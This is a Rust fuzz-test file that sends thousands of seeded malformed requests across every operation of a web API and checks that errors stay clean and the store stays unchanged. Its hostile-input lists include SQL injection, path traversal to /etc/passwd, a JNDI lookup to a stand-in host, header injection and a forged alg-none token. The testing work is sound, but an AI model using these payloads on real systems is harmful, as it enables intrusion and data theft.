//! Hostile input through the real router: at least 10,000 generated malformed requests (a
//! fixed seed, so every run sends the same ones), over every operation the OpenAPI document
//! lists, as a superuser, a low-permission user, nobody and holders of bad tokens.
//!
//! What is sent: ids that are SQL, path traversal, NUL, huge or negative numbers, unicode and
//! percent-encoded garbage; every documented query parameter with such values; bodies that
//! are valid-shaped but hostile-valued (every field of the operation's request schema replaced
//! by SQL or path metacharacters, long or 1 MB strings, control characters), wrong JSON types,
//! broken JSON, 10,000-deep nesting, invalid UTF-8, non-object JSON, oversized bodies, wrong
//! content types; bad, forged, expired, revoked and deactivated users' tokens.
//!
//! The oracle, for every request:
//! - no status >= 500 (the router's catch-panic layer turns a panic into a 500, so this
//!   also means no panic; a panic outside that layer fails the test itself);
//! - every 4xx body is JSON in the contract's error shape (`{"detail": "..."}`, field-keyed
//!   `{"field": ["message", ...]}`, or a batch's `{"detail", "errors": [...]}`);
//! - a 4xx leaves every collection of the store exactly as it was (the whole store is copied
//!   byte for byte before and after every request; when the copies differ, the changed
//!   records of all eleven collections are decoded and compared). Left out: the id counters,
//!   since a refused create may use up an id (the `Store` contract: "ids may be skipped").
//!   And one documented exception: a wrong password or code is
//!   *meant* to leave a trace, so on the routes that check one (login, MFA verify, TOTP
//!   confirm and disable, recovery codes, password change) the throttle records, new
//!   `auth.login_failed` / `auth.lockout` audit events, and the MFA challenge's attempt count
//!   may change, and nothing else;
//! - a 2xx write that accepted hostile text stored it exactly (trimmed, as the contract's text
//!   fields are), and reading the object back returns what the write answered.
//!
//! `REHOME_FUZZ_CASES` (default 10,000) and `REHOME_FUZZ_SEED` run more or other cases. The
//! figures (cases, categories, statuses, time) are printed at the end (`--nocapture`);
//! `REHOME_FUZZ_VERBOSE=1` adds the superuser's statuses per operation and where the time
//! went, `REHOME_FUZZ_SHOW="POST /inventory/devices/"` prints every superuser request of that
//! operation with its answer.
//!
//! ```sh
//! cargo test -p rehome-tests --test hostile -- --nocapture
//! REHOME_FUZZ_CASES=100000 REHOME_FUZZ_SEED=7 cargo test -p rehome-tests --test hostile -- --nocapture
//! ```

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::time::Instant;

use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, Method, Request, header};
use rand::rngs::ChaCha8Rng;
use rand::{RngExt, SeedableRng};
use rehome_core::ids::Digest;
use rehome_core::kv::KvEngine;
use rehome_core::model::Session;
use rehome_core::query::Collection;
use rehome_core::services::Mode;
use rehome_core::{Caller, ChangeSet, MemoryStore, Record, RecordKey, Store, UserId};
use rehome_http::Settings;
use rehome_tests::{Fixtures, PASSWORD, Req, Resp, TestApp, start_time, totp};
use serde_json::{Value as Json, json};

// ------------------------------------------------------------------------------ settings

const DEFAULT_CASES: usize = 10_000;
const DEFAULT_SEED: u64 = 0x5EED_2026;
/// Cases per fresh app at most (a small store keeps the per-request snapshot cheap).
const EPOCH: usize = 300;

fn env_number(name: &str, default: u64) -> u64 {
    match std::env::var(name) {
        Ok(v) => v
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("{name} must be a number, got {v:?}")),
        Err(_) => default,
    }
}

// ------------------------------------------------------------------- the API's operations

/// One operation of the OpenAPI document.
#[derive(Debug, Clone)]
struct Op {
    method: String,
    /// The path template, e.g. `/inventory/devices/{id}/`.
    template: String,
    /// Documented query parameters: (name, JSON type).
    query: Vec<(String, String)>,
    /// The request body schema, when the operation takes one.
    body: Option<Json>,
}

impl Op {
    fn key(&self) -> String {
        format!("{} {}", self.method, self.template)
    }
}

fn operations(spec: &Json) -> Vec<Op> {
    let mut ops = Vec::new();
    for (path, item) in spec["paths"].as_object().expect("paths") {
        for (method, op) in item.as_object().expect("path item") {
            let mut query = Vec::new();
            for p in op["parameters"].as_array().into_iter().flatten() {
                let p = resolve(spec, p);
                if p["in"] == "query" {
                    let ty = type_of(spec, &p["schema"]);
                    query.push((
                        p["name"].as_str().expect("a name").to_owned(),
                        ty.to_owned(),
                    ));
                }
            }
            let body = op
                .pointer("/requestBody/content/application~1json/schema")
                .cloned();
            ops.push(Op {
                method: method.to_ascii_uppercase(),
                template: path.clone(),
                query,
                body,
            });
        }
    }
    ops
}

/// Follows `$ref`s to the schema they name.
fn resolve<'a>(spec: &'a Json, mut s: &'a Json) -> &'a Json {
    for _ in 0..16 {
        let Some(r) = s.get("$ref").and_then(Json::as_str) else {
            return s;
        };
        let pointer = r.trim_start_matches('#');
        s = spec.pointer(pointer).unwrap_or(&Json::Null);
    }
    s
}

/// The main JSON type of a schema (`string`, `integer`, `object`, ...), nulls aside.
fn type_of<'a>(spec: &'a Json, s: &'a Json) -> &'a str {
    let s = resolve(spec, s);
    match &s["type"] {
        Json::String(t) => t,
        Json::Array(ts) => ts
            .iter()
            .filter_map(Json::as_str)
            .find(|t| *t != "null")
            .unwrap_or("null"),
        _ => {
            for k in ["oneOf", "anyOf", "allOf"] {
                if let Some(alts) = s[k].as_array() {
                    for a in alts {
                        let t = type_of(spec, a);
                        if t != "null" && t != "any" {
                            return t;
                        }
                    }
                }
            }
            if s.get("properties").is_some() {
                "object"
            } else {
                "any"
            }
        }
    }
}

/// The schema's properties (following `$ref` and `allOf`/`oneOf`), in document order.
fn properties(spec: &Json, s: &Json) -> Vec<(String, Json)> {
    let s = resolve(spec, s);
    let mut out = Vec::new();
    if let Some(props) = s["properties"].as_object() {
        out.extend(props.iter().map(|(k, v)| (k.clone(), v.clone())));
    }
    for k in ["allOf", "oneOf", "anyOf"] {
        for a in s[k].as_array().into_iter().flatten() {
            if type_of(spec, a) == "object" {
                out.extend(properties(spec, a));
                if k != "allOf" {
                    break;
                }
            }
        }
    }
    out
}

fn items_of(spec: &Json, s: &Json) -> Json {
    let s = resolve(spec, s);
    if let Some(i) = s.get("items") {
        return i.clone();
    }
    for k in ["oneOf", "anyOf"] {
        for a in s[k].as_array().into_iter().flatten() {
            if let Some(i) = resolve(spec, a).get("items") {
                return i.clone();
            }
        }
    }
    json!({})
}

fn enum_of(spec: &Json, s: &Json) -> Vec<Json> {
    resolve(spec, s)["enum"]
        .as_array()
        .map(|v| v.iter().filter(|x| !x.is_null()).cloned().collect())
        .unwrap_or_default()
}

// --------------------------------------------------------------------- hostile material

/// Hostile text: SQL, paths, format strings, markup, control characters, unicode.
const HOSTILE_TEXT: &[&str] = &[
    "' OR 1=1 --",
    "'; DROP TABLE devices; --",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(10)",
    "' UNION SELECT password_hash FROM credentials --",
    "admin'--",
    "%' OR '%'='",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\u{0}.png",
    "%00",
    "\u{0}",
    "%s%s%s%n%x",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u{202E}gnp.exe",
    "Ω≈ç√∫˜µ≤≥÷",
    "𝕳𝖊𝖑𝖑𝖔 🙈🙉🙊",
    "\u{FEFF}bom",
    "İıẞß",
    "\r\nSet-Cookie: a=b",
    "\t",
    " ",
    "",
    "null",
    "NaN",
    "-0",
    "1e309",
    "%",
    "_",
    "\\",
    "%_%\\",
    "*",
    "\u{7f}\u{1b}[31m",
    "😀",
    "a\u{0301}\u{0301}\u{0301}",
    "  padded  ",
    "  ' OR ''='  ",
    "0x7FFFFFFF",
    "-1",
    "9223372036854775808",
    "readDevices",
    "true",
];

/// Values of the wrong JSON type (or out of any range).
fn wrong_types() -> Vec<Json> {
    let deep = (0..60).fold(json!(1), |acc, _| json!([acc]));
    vec![
        json!(0),
        json!(-1),
        json!(1.5),
        json!(1e308),
        json!(-1e308),
        json!(u64::MAX),
        json!(i64::MIN),
        json!(true),
        json!(false),
        Json::Null,
        json!([]),
        json!({}),
        json!([1, 2, 3]),
        json!(["' OR 1=1 --"]),
        json!({"$gt": ""}),
        json!({"$where": "1==1"}),
        json!([null]),
        json!([[], {}]),
        deep,
    ]
}

/// Raw path segments (already in URI form): every kind of id the brief lists.
const HOSTILE_IDS: &[&str] = &[
    "'%20OR%201=1%20--",
    "1'%20OR%20'1'='1",
    "1;DROP%20TABLE%20users",
    "..%2F..%2Fetc%2Fpasswd",
    "..",
    "%2e%2e",
    "%00",
    "1%00",
    "%",
    "%zz",
    "%25",
    "%FF%FE",
    "%C0%AF",
    "%ED%A0%80",
    "%E2%98%83",
    "%F0%9F%92%A9",
    "%0D%0ASet-Cookie:x",
    "%20",
    "%09",
    "99999999999999999999999",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "-1",
    "0",
    "00000000001",
    "1.5",
    "1e3",
    "0x10",
    "+1",
    "%2B1",
    "NaN",
    "null",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz",
    "%3Cscript%3E",
    "$%7Bjndi:x%7D",
    "*",
    "~",
    "%CE%A9%E2%89%88",
    "%E2%80%AE",
];

/// Whole query strings that are malformed in themselves.
const RAW_QUERIES: &[&str] = &[
    "%%%",
    "a=%FF%FE",
    "page=%00",
    "&&&==&=",
    "ordering=-",
    "ordering=,,,",
    "ordering=-id,--id,%2Did",
    "page_size=1e3",
    "page_size=0",
    "page_size=101",
    "page_size=-1",
    "page=last&page=0",
    "page=99999999999999999999",
    "search=%",
    "search=_",
    "expand=donor,donor,donor,%00",
    "expand=password,credentials",
    "model=../../etc",
    "serial_number=&mac_id=",
    "=x",
    "%3D=%3D",
    "a[b][c]=1",
    "__proto__=1",
];

/// Content types a JSON body must not pass with (some not even valid header values).
const WRONG_CONTENT_TYPES: &[&[u8]] = &[
    b"text/plain",
    b"application/x-www-form-urlencoded",
    b"multipart/form-data; boundary=x",
    b"application/xml",
    b"json",
    b"",
    b"application/jsonx",
    b"text/json",
    b"application/json\xff",
    b"*/*",
];

// --------------------------------------------------------------------------- the world

/// A fresh app with a few objects of each kind and the principals' tokens.
struct World {
    app: TestApp,
    store: Arc<MemoryStore>,
    fixtures: Fixtures,
    su: (i64, String),
    low: (i64, String),
    bad_tokens: Vec<(&'static str, String)>,
    /// The pending MFA challenge's token (of the user `twostep`).
    mfa_token: String,
}

async fn world() -> World {
    let store = Arc::new(MemoryStore::new());
    let app = TestApp::with_store(store.clone(), Settings::default());
    let fixtures = app.fixtures().await;
    let su = app.superuser("root").await;
    let low = app.user_with("lowly", &["readDevices"]).await;
    // A second device, donor and role so lists have more than one row.
    let phone = app
        .core
        .create(
            &Caller::system(),
            rehome_core::services::Model::Device,
            &json!({"type": "Phone", "make": "Acme", "model": "P1", "serial_number": "SN-2",
                    "imei": "490154203237518"}),
        )
        .await
        .expect("a second device");
    app.core
        .create_role(
            &Caller::system(),
            &json!({"name": "clerks", "permissions": ["readDevices"]}),
        )
        .await
        .expect("a role");

    // A user with two-step login and a pending MFA challenge, and a throttle record, so
    // every collection has something in it.
    let (_, twostep) = app.user_with("twostep", &[]).await;
    let setup = app
        .send(Req::new("POST", "/authen/mfa/totp/setup/").token(&twostep))
        .await
        .expect(200)
        .json();
    let secret = setup["secret"].as_str().expect("a secret");
    let code = totp(secret, app.core.now().timestamp());
    app.call(
        "POST",
        "/authen/mfa/totp/confirm/",
        &twostep,
        &json!({ "code": code }),
    )
    .await
    .expect(200);
    let mfa_token = app
        .send(
            Req::new("POST", "/authen/login/")
                .json(&json!({"username": "twostep", "password": PASSWORD})),
        )
        .await
        .expect(200)
        .json()["mfa_token"]
        .as_str()
        .expect("an MFA token")
        .to_owned();
    app.send(
        Req::new("POST", "/authen/login/")
            .json(&json!({"username": "nobody", "password": "Wrong-Password-1"})),
    )
    .await
    .expect(401);

    // Bad tokens of every kind.
    let revoked = {
        let t = app.login("lowly").await;
        app.send(Req::new("POST", "/authen/logout/").token(&t))
            .await
            .expect(204);
        t
    };
    let deactivated = {
        let id = app.create_user("gone", json!({})).await;
        let t = app.login("gone").await;
        app.core
            .update_user(
                &Caller::system(),
                UserId(id),
                &json!({"is_active": false}),
                Mode::Patch,
                None,
            )
            .await
            .expect("deactivated");
        t
    };
    let deleted = {
        let id = app.create_user("deleted", json!({})).await;
        let t = app.login("deleted").await;
        app.core
            .delete_user(&Caller::system(), UserId(id), None)
            .await
            .expect("deleted");
        t
    };
    let expired = "expired-token-of-the-superuser-000000000000".to_owned();
    let mut cs = ChangeSet::new();
    cs.insert(Record::Session(Session {
        digest: Digest::of(&expired),
        user: UserId(su.0),
        created_at: start_time() - chrono::TimeDelta::hours(14),
        expires_at: start_time() - chrono::TimeDelta::hours(2),
        last_used_at: start_time() - chrono::TimeDelta::hours(3),
        ip: None,
        version: 1,
    }));
    store.commit(cs).await.expect("an expired session");
    // Sanitization evidence for the phone (its records are written by no route yet: straight
    // into the store), so that every collection has something in it.
    {
        use rehome_core::testing::fixtures::{medium, report, sanitization, verification};
        let device = phone.key();
        let rehome_core::RecordKey::Device(device) = device else {
            panic!("a device")
        };
        let rep = report(b"{\"report_schema\": \"org.nwipe.report.v1\"}");
        let mut record = sanitization(1, device, 1, su.0);
        record.report = Some(rep.digest);
        let mut cs = ChangeSet::new();
        cs.insert(Record::Report(rep))
            .insert(Record::Medium(medium(1, device, "DRIVE-SN-2")))
            .insert(Record::Sanitization(record))
            .insert(Record::Verification(verification(1, device, low.0, &[1])));
        store.commit(cs).await.expect("evidence");
    }
    let forged = {
        // The right shape, another value: the superuser's token with its last character
        // changed.
        let mut t = su.1.clone();
        let last = t.pop().expect("a token");
        t.push(if last == 'A' { 'B' } else { 'A' });
        t
    };
    let bad_tokens = vec![
        ("revoked", revoked),
        ("deactivated", deactivated),
        ("deleted", deleted),
        ("expired", expired),
        ("forged", forged),
        ("garbage", "' OR 1=1 --".to_owned()),
        ("huge", "A".repeat(8192)),
        ("traversal", "../../etc/passwd".to_owned()),
        ("empty", String::new()),
        (
            "jwt-none",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOjEsInN1cGVydXNlciI6dHJ1ZX0.".to_owned(),
        ),
        ("digest-of-real", rehome_tests::hex_sha256(&su.1)),
    ];
    World {
        app,
        store,
        fixtures,
        su,
        low,
        bad_tokens,
        mfa_token,
    }
}

/// A copy of `seed` in a fresh store and app (ids, sessions and tokens kept): far cheaper
/// than making the seed data again.
async fn fork(seed: &World, settings: Settings) -> World {
    let store = Arc::new(MemoryStore::new());
    rehome_core::copy::copy_store(&*seed.store, &*store, &mut |_| {})
        .await
        .expect("a copy of the seed data");
    World {
        app: TestApp::with_store(store.clone(), settings),
        store,
        fixtures: seed.fixtures.clone(),
        su: seed.su.clone(),
        low: seed.low.clone(),
        bad_tokens: seed.bad_tokens.clone(),
        mfa_token: seed.mfa_token.clone(),
    }
}

// --------------------------------------------------------------------------- snapshots

type Snapshot = BTreeMap<RecordKey, Record>;

/// Every entry of the store's ordered map, as bytes: records, indexes and id counters, in
/// one buffer (copying is a few memcpys, comparing one memcmp).
#[derive(Debug, Default, PartialEq, Eq)]
struct Raw {
    bytes: Vec<u8>,
    /// Per entry: where its key starts, where its value starts, where the value ends.
    entries: Vec<(usize, usize, usize)>,
}

impl Raw {
    fn len(&self) -> usize {
        self.entries.len()
    }

    fn key(&self, i: usize) -> &[u8] {
        let (k, v, _) = self.entries[i];
        &self.bytes[k..v]
    }

    fn value(&self, i: usize) -> &[u8] {
        let (_, v, e) = self.entries[i];
        &self.bytes[v..e]
    }
}

/// A byte-for-byte copy of the whole store (cheap: no decoding). Equal copies mean equal
/// contents; when they differ, [`changed_records`] says which records changed.
fn raw(store: &MemoryStore) -> Raw {
    let mut out = Raw::default();
    store
        .kv()
        .engine()
        .scan(&[], None, false, &mut |k, v| {
            let start = out.bytes.len();
            out.bytes.extend_from_slice(k);
            out.bytes.extend_from_slice(v);
            out.entries
                .push((start, start + k.len(), start + k.len() + v.len()));
            true
        })
        .expect("a raw scan");
    out
}

/// Whether a raw key is an id counter (`core/src/kv/layout.rs`: `[0x00, b'n', kind]`).
fn is_id_counter(key: &[u8]) -> bool {
    key.len() == 3 && key[0] == 0 && key[1] == b'n'
}

/// What differs between two raw copies: the records before and after, and the other
/// entries (indexes, counts) that changed. Id counters are left out: a refused create may use
/// up an id, which the `Store` contract allows ("ids may be skipped").
fn changed_records(before: &Raw, after: &Raw) -> (Snapshot, Snapshot, Vec<String>) {
    let decode = |v: &[u8]| serde_json::from_slice::<Record>(v).ok();
    let (mut b, mut a) = (BTreeMap::new(), BTreeMap::new());
    let mut other = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < before.len() || j < after.len() {
        let order = if i < before.len() && j < after.len() {
            before.key(i).cmp(after.key(j))
        } else if i < before.len() {
            std::cmp::Ordering::Less
        } else {
            std::cmp::Ordering::Greater
        };
        let (old, new) = match order {
            std::cmp::Ordering::Equal => {
                let pair = (Some(before.value(i)), Some(after.value(j)));
                i += 1;
                j += 1;
                if pair.0 == pair.1 {
                    continue;
                }
                pair
            }
            std::cmp::Ordering::Less => {
                i += 1;
                (Some(before.value(i - 1)), None)
            }
            std::cmp::Ordering::Greater => {
                j += 1;
                (None, Some(after.value(j - 1)))
            }
        };
        let key = if order == std::cmp::Ordering::Greater {
            after.key(j - 1)
        } else {
            before.key(i - 1)
        };
        let (old, new) = (old.and_then(decode), new.and_then(decode));
        if old.is_none() && new.is_none() && !is_id_counter(key) {
            other.push(format!("store entry {key:?}"));
        }
        if let Some(r) = old {
            b.insert(r.key(), r);
        }
        if let Some(r) = new {
            a.insert(r.key(), r);
        }
    }
    (b, a, other)
}

/// The records of a raw copy (the entries that decode as a record; indexes and counters do
/// not). [`snapshot`] reads the same through the `Store` trait; the test checks they agree.
fn records(raw: &Raw) -> Snapshot {
    (0..raw.len())
        .filter_map(|i| serde_json::from_slice::<Record>(raw.value(i)).ok())
        .map(|r| (r.key(), r))
        .collect()
}

async fn snapshot(store: &MemoryStore) -> Snapshot {
    let mut out = BTreeMap::new();
    for c in Collection::ALL {
        let mut after = None;
        loop {
            let chunk = store.scan(c, after, 10_000).await.expect("a scan");
            let done = chunk.len() < 10_000;
            after = chunk.last().map(Record::key);
            out.extend(chunk.into_iter().map(|r| (r.key(), r)));
            if done {
                break;
            }
        }
    }
    out
}

/// Routes that check a password or a code: a wrong one is recorded (throttles, audit, the
/// MFA challenge's attempts) even though the request is refused.
const CREDENTIAL_ROUTES: &[&str] = &[
    "/authen/login/",
    "/authen/mfa/verify/",
    "/authen/mfa/totp/confirm/",
    "/authen/mfa/totp/disable/",
    "/authen/mfa/recovery-codes/",
    "/users/password/",
];

/// The differences between two snapshots that a refused request may not cause.
fn forbidden_changes(before: &Snapshot, after: &Snapshot, template: &str) -> Vec<String> {
    let credential_route = CREDENTIAL_ROUTES.contains(&template);
    let keys: BTreeSet<&RecordKey> = before.keys().chain(after.keys()).collect();
    let mut out = Vec::new();
    for k in keys {
        let (b, a) = (before.get(k), after.get(k));
        if b == a {
            continue;
        }
        let allowed = credential_route
            && match (k, b, a) {
                (RecordKey::Throttle(_), _, _) => true,
                (RecordKey::Audit(_), None, Some(Record::Audit(e))) => {
                    e.action == "auth.login_failed" || e.action == "auth.lockout"
                }
                (
                    RecordKey::MfaChallenge(_),
                    Some(Record::MfaChallenge(old)),
                    Some(Record::MfaChallenge(new)),
                ) if template == "/authen/mfa/verify/" => {
                    let mut expected = old.clone();
                    expected.attempts_left = old.attempts_left.saturating_sub(1);
                    expected.version = new.version;
                    *new == expected
                }
                // Used up: the last attempt deletes the challenge.
                (RecordKey::MfaChallenge(_), Some(_), None) => template == "/authen/mfa/verify/",
                _ => false,
            };
        if !allowed {
            out.push(format!("{k}: {b:?} -> {a:?}"));
        }
    }
    out
}

// ---------------------------------------------------------------------------- the oracle

/// Whether `body` is one of the contract's error shapes.
fn is_error_shape(body: &Json) -> bool {
    let Some(obj) = body.as_object() else {
        return false;
    };
    if obj.is_empty() {
        return false;
    }
    if let Some(detail) = obj.get("detail") {
        if !detail.is_string() {
            return false;
        }
        // `{"detail"}`, or a rejected batch's `{"detail", "errors": [{index, errors}]}`.
        return match obj.get("errors") {
            None => obj.len() == 1,
            Some(Json::Array(errs)) => {
                obj.len() == 2
                    && errs.iter().all(|e| {
                        e["index"].is_u64()
                            && e["errors"].as_object().is_some_and(|f| {
                                f.values().all(|m| {
                                    m.as_array().is_some_and(|m| {
                                        !m.is_empty() && m.iter().all(Json::is_string)
                                    })
                                })
                            })
                    })
            }
            Some(_) => false,
        };
    }
    obj.values().all(|m| {
        m.as_array()
            .is_some_and(|m| !m.is_empty() && m.iter().all(Json::is_string))
    })
}

/// A MAC in any of the forms the contract normalises.
fn looks_like_mac(s: &str) -> bool {
    let hex: String = s.trim().chars().filter(|c| !":-.".contains(*c)).collect();
    hex.len() == 12 && hex.chars().all(|c| c.is_ascii_hexdigit())
}

/// Text fields sent as strings come back trimmed and otherwise exactly as sent (the
/// exceptions are the fields the contract normalises: MACs, money, dates, permission lists).
fn round_trip_failures(sent: &Json, stored: &Json) -> Vec<String> {
    let mut out = Vec::new();
    let (Some(sent), Some(stored)) = (sent.as_object(), stored.as_object()) else {
        return out;
    };
    for (k, v) in sent {
        let (Some(s), Some(got)) = (v.as_str(), stored.get(k)) else {
            continue;
        };
        // Read-only fields are ignored on writes (the contract); money is normalised.
        const SKIP: &[&str] = &[
            "value",
            "password",
            "version",
            "device_id",
            "location_id",
            "donor_id",
            "shipping_id",
            "id",
            "created_at",
            "updated_at",
            "created_by",
            // A device's evidence state: read-only, set by the evidence routes.
            "no_media",
            "locks",
            "sample",
            "no_evidence_recorded",
            "recycling",
            "effective_permissions",
            "mfa_enabled",
            "last_login",
            "date_joined",
        ];
        // An IMEI is kept as its 15 digits, separators dropped.
        if SKIP.contains(&k.as_str())
            || (k == "mac_id" && looks_like_mac(s))
            || (k == "imei" && rehome_core::evidence::parse_imei(s).is_ok())
        {
            continue;
        }
        let Some(got) = got.as_str() else {
            continue;
        };
        if got != s.trim() {
            out.push(format!("{k}: sent {s:?}, stored {got:?}"));
        }
    }
    out
}

// ----------------------------------------------------------------------- the generator

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Who {
    Superuser,
    Low,
    Anonymous,
    Bad(usize),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum BodyKind {
    None,
    HostileValues,
    OneHostile,
    WrongTypes,
    ExtraFields,
    BrokenJson,
    DeepNesting,
    NonObject,
    InvalidUtf8,
    WrongContentType,
    HugeString,
    Oversized,
}

/// What a case of the opening sweep fixes (the rest is random as usual): the sweep sends
/// every operation as every kind of caller, every hostile id to every operation with a path
/// parameter, and hostile values to every documented query parameter, so coverage does not
/// depend on chance.
#[derive(Debug, Clone)]
struct Forced {
    op: usize,
    method: Option<&'static str>,
    who: Option<Who>,
    id: Option<&'static str>,
    query: Option<String>,
}

fn sweep(ops: &[Op], bad_tokens: usize) -> Vec<Forced> {
    let mut out = Vec::new();
    let mut whos = vec![Who::Superuser, Who::Low, Who::Anonymous];
    whos.extend((0..bad_tokens).map(Who::Bad));
    for (i, op) in ops.iter().enumerate() {
        let base = Forced {
            op: i,
            method: None,
            who: None,
            id: None,
            query: None,
        };
        for who in &whos {
            out.push(Forced {
                who: Some(*who),
                ..base.clone()
            });
        }
        // Every method on every path (the first operation of each path stands for it).
        if ops.iter().position(|o| o.template == op.template) == Some(i) {
            for method in [
                "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND",
            ] {
                out.push(Forced {
                    method: Some(method),
                    who: Some(Who::Superuser),
                    ..base.clone()
                });
            }
        }
        if op.template.contains('{') {
            for id in HOSTILE_IDS {
                out.push(Forced {
                    who: Some(Who::Superuser),
                    id: Some(id),
                    ..base.clone()
                });
            }
        }
        for (k, (name, _)) in op.query.iter().enumerate() {
            for j in 0..3 {
                let value = HOSTILE_TEXT[(k * 3 + j * 7 + i) % HOSTILE_TEXT.len()];
                let q = form_urlencoded::Serializer::new(String::new())
                    .append_pair(name, value)
                    .finish();
                out.push(Forced {
                    who: Some(Who::Superuser),
                    query: Some(q),
                    ..base.clone()
                });
            }
        }
    }
    out
}

/// One generated request, described for the figures and for failure messages.
struct Case {
    op: Op,
    who: Who,
    body_kind: BodyKind,
    id_kind: &'static str,
    query_kind: &'static str,
    request: Option<Request<Body>>,
    /// The JSON sent, when it was a JSON value.
    json: Option<Json>,
    /// The path as sent.
    path: String,
    /// Method, path and query as sent.
    line: String,
    body_len: usize,
}

impl Case {
    /// The request in words, for a failure message.
    fn summary(&self) -> String {
        format!(
            "{} as {:?} with {:?} body ({} bytes){}",
            truncate(&self.line, 300),
            self.who,
            self.body_kind,
            self.body_len,
            self.json
                .as_ref()
                .map(|j| format!(": {}", truncate(&j.to_string(), 600)))
                .unwrap_or_default()
        )
    }
}

struct Gen<'a> {
    rng: ChaCha8Rng,
    spec: &'a Json,
    n: u64,
    huge: Bytes,
    oversized: Bytes,
    oversized_batch: Bytes,
    nested_arrays: Bytes,
    nested_objects: Bytes,
    wrong: Vec<Json>,
    /// Operations with weights (a few slow, side-effect-free ones are tried less often).
    weights: Vec<u32>,
}

impl Gen<'_> {
    fn pick<'x, T>(&mut self, xs: &'x [T]) -> &'x T {
        &xs[self.rng.random_range(0..xs.len())]
    }

    fn chance(&mut self, p: f64) -> bool {
        self.rng.random_bool(p)
    }

    fn hostile_text(&mut self) -> String {
        match self.rng.random_range(0..20) {
            0 => "x".repeat(256),
            1 => "y".repeat(10_001),
            2 => format!("{}{}", self.pick(HOSTILE_TEXT), self.pick(HOSTILE_TEXT)),
            3 => "\u{0}".repeat(self.rng.random_range(1..5)),
            _ => (*self.pick(HOSTILE_TEXT)).to_owned(),
        }
    }

    fn unique(&mut self, prefix: &str) -> String {
        self.n += 1;
        format!("{prefix}{}", self.n)
    }

    /// A model of the batch routes, its schema and the id of its fixture.
    fn model_of(&mut self, w: &World) -> (&'static str, Json, Json) {
        let f = &w.fixtures;
        let schemas = &self.spec["components"]["schemas"];
        match self.rng.random_range(0..4) {
            0 => ("device", schemas["Device"].clone(), json!(f.device)),
            1 => ("location", schemas["Location"].clone(), json!(f.location)),
            2 => ("donor", schemas["Donor"].clone(), json!(f.donor)),
            _ => ("shipment", schemas["Shipment"].clone(), json!(f.shipment)),
        }
    }

    /// A value that passes for `name` (so the other fields reach validation and the store).
    fn plausible(&mut self, w: &World, name: &str, schema: &Json, depth: usize) -> Json {
        let spec = self.spec;
        let f = &w.fixtures;
        let en = enum_of(spec, schema);
        if !en.is_empty() {
            return self.pick(&en).clone();
        }
        match name {
            "email" => return json!(format!("{}@example.org", self.unique("fz"))),
            "username" => return json!(self.unique("fz")),
            "password" | "old_password" => return json!(PASSWORD),
            "new_password" => return json!("Quartz-Harbour-Lantern-9"),
            "code" => return json!("123456"),
            "recovery_code" => return json!("abcde-fghij"),
            "mfa_token" if self.chance(0.5) => return json!(w.mfa_token),
            "mfa_token" => return json!(self.unique("mfa-")),
            "year_of_manufacture" => return json!(2020),
            "donor" => return json!(f.donor),
            "start_location" | "end_location" | "destination" => return json!(f.location),
            "received_by" => return json!(w.low.0),
            "shipping_infos" => return json!([f.shipment]),
            "permissions" => return json!(["readDevices"]),
            "role" => return json!("clerks"),
            "status" => return json!(*self.pick(&["received", "wiped", "recycled"])),
            "value" => return json!("12.50"),
            "is_superuser" => return json!(false),
            "is_active" => return json!(true),
            "seed" => return json!(7),
            n if n.starts_with("num_") => return json!(self.rng.random_range(0..2)),
            "model" => return json!(*self.pick(&["device", "location", "donor", "shipment"])),
            "op" => return json!(*self.pick(&["create", "update", "delete"])),
            "id" => return json!(f.location),
            "ids" => return json!([f.device]),
            "operations" if depth < 3 => {
                let n = self.rng.random_range(1..4);
                let ops = (0..n)
                    .map(|_| {
                        let (model, schema, id) = self.model_of(w);
                        let op = *self.pick(&["create", "create", "update", "delete"]);
                        let mut o = json!({"op": op, "model": model});
                        if op != "create" {
                            o["id"] = id;
                        }
                        if op != "delete" {
                            o["data"] = self.object(w, &schema, depth + 1, BodyKind::OneHostile);
                        }
                        o
                    })
                    .collect();
                return Json::Array(ops);
            }
            "objects" if depth < 3 => {
                let schema = spec["components"]["schemas"]["Device"].clone();
                let mut o = self.object(w, &schema, depth + 1, BodyKind::OneHostile);
                o["id"] = json!(f.device);
                return json!([o]);
            }
            _ => {}
        }
        if resolve(spec, schema)["format"] == "date" || name.starts_with("date_") {
            return json!("2026-01-15");
        }
        match type_of(spec, schema) {
            "string" => json!(self.unique("fz-")),
            "integer" | "number" => json!(f.location),
            "boolean" => json!(self.chance(0.5)),
            "array" => {
                if depth > 3 {
                    return json!([]);
                }
                let items = items_of(spec, schema);
                let n = self.rng.random_range(1..3);
                Json::Array(
                    (0..n)
                        .map(|_| self.value(w, name, &items, depth + 1, BodyKind::HostileValues))
                        .collect(),
                )
            }
            "object" => self.object(w, schema, depth + 1, BodyKind::HostileValues),
            _ => json!(self.unique("fz-")),
        }
    }

    /// A value for field `name` of `schema`, hostile as `kind` says.
    fn value(
        &mut self,
        w: &World,
        name: &str,
        schema: &Json,
        depth: usize,
        kind: BodyKind,
    ) -> Json {
        let ty = type_of(self.spec, schema);
        match kind {
            BodyKind::WrongTypes if self.chance(0.6) => {
                let i = self.rng.random_range(0..self.wrong.len());
                return self.wrong[i].clone();
            }
            BodyKind::HostileValues if ty == "string" && self.chance(0.6) => {
                return json!(self.hostile_text());
            }
            BodyKind::HostileValues if ty != "object" && ty != "array" && self.chance(0.15) => {
                return json!(self.hostile_text());
            }
            _ => {}
        }
        self.plausible(w, name, schema, depth)
    }

    fn object(&mut self, w: &World, schema: &Json, depth: usize, kind: BodyKind) -> Json {
        let props = properties(self.spec, schema);
